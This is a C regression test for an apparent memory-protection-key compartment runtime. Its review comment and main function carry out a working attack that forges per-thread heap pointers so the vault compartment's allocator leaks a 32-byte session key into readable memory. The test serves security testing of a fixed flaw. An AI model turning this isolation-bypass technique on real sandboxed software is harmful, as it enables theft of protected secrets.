// Review (attackA): the threat model says a forged per-thread heap pointer
// (runtime/heap.c __bulkhead_heap_tls.heap[i], key-0 TLS) only gives
// "aliased blocks within the compartment's region" or a stop. It also
// reads the compartment's memory: the compartment's mimalloc copy, running
// with the compartment's rights, pops a block from the forged heap's page
// (key 0), and storing the popped block's successor (its first word) back
// into that page copies 8 bytes of compartment memory, at an address of the
// attacker's choice inside the region, into key-0 memory. Four ordinary
// calls of a vault entry that allocates a scratch buffer read a 32-byte
// session key through the opaque handle the vault returned.
// The test FAILS (the secret leaks) while this works. Fixed: the runtime
// keeps no per-thread heap pointer (one heap per compartment, found from
// its read-only table), and the compartment's mimalloc copy is only
// called on paths that do not read its own per-thread default heap (also
// key-0 TLS, forged here as well). Before the fix: "LEAK".
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t && %run %t
#include "Inputs/heap-pointers.h"

BULKHEAD_DATA(vault) static char master[32] = "vault master key 0123456789abcd";
BULKHEAD_DATA(vault) static unsigned long sessions;

struct session {
  char key[32]; /* derived from the master key: the secret */
  long uses;
};

BULKHEAD_ENTRY(vault) struct session *vault_session(void) {
  struct session *s = malloc(sizeof *s);
  if (s) {
    for (int k = 0; k < 32; k++)
      s->key[k] = (char)(master[k] ^ (char)sessions);
    s->uses = 0;
    sessions++;
  }
  return s;
}

/* Logs a message: copies it into a scratch buffer of the vault's heap. */
BULKHEAD_ENTRY(vault) int vault_log(const char *msg) {
  size_t n = strlen(msg) + 1;
  char *b = malloc(n < 16 ? 16 : n);
  if (!b)
    return -1;
  memcpy(b, msg, n);
  int r = (int)strlen(b);
  free(b);
  return r;
}

/* A fake heap: its direct page for 16-byte blocks is the fake page. */
static void *fake_heap[160];
static struct fake_page fake_page;

int main(void) {
  int vault_key = bulkhead_compartment_pkey("vault");
  struct session *s = vault_session(); /* an opaque handle */
  CHECK(s && page_pkey(s) == vault_key);
  CHECK(vault_log("hello") == 5);

  /* Every per-thread heap pointer the default domain can write. */
  void **where[8], *real[8];
  int n = heap_pointers(where, 8);
  CHECK(n >= 1);
  fake_heap[1 + (16 + 7) / 8] = &fake_page; /* vault_log's malloc(16) */
  unsigned long words[4];
  for (int k = 3; k >= 0; k--) { /* downwards: the vault writes 16 bytes at the block */
    fake_page.free = (char *)s + 8 * k;
    for (int j = 0; j < n; j++)
      real[j] = *where[j], *where[j] = fake_heap;
    int r = vault_log("hello");
    for (int j = 0; j < n; j++)
      *where[j] = real[j];
    CHECK(r == 5);                            /* the vault's heap still works */
    words[k] = (unsigned long)fake_page.free; /* the vault's word, in key-0 memory */
  }
  char stolen[33] = {0};
  memcpy(stolen, words, 32);
  if (!memcmp(stolen, "vault master key", 16)) {
    fprintf(stderr, "attacks-review-heap-read: LEAK: the vault's session key \"%s\"\n", stolen);
    return 1;
  }
  printf("attacks-review-heap-read: ok (%d pointers forged)\n", n);
  return 0;
}
